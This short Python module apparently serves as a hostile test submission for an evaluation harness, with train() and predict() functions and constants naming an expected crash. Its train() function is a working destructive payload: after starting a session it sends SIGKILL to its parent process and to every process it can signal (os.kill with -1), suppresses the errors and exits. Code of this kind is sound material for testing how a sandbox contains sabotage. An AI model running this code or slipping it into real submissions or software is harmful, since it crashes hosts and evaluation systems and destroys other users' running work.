"""Signals every process that it can see, its parent first."""

import contextlib
import os
import signal

ATTACK = 28
ENDS = "crashed"
REASON = "it exited without a result"
HARM = "dead"


def train(session):
    session.start()
    for victim in (os.getppid(), -1):
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.kill(victim, signal.SIGKILL)
    os._exit(0)


def predict(state, task):
    return None
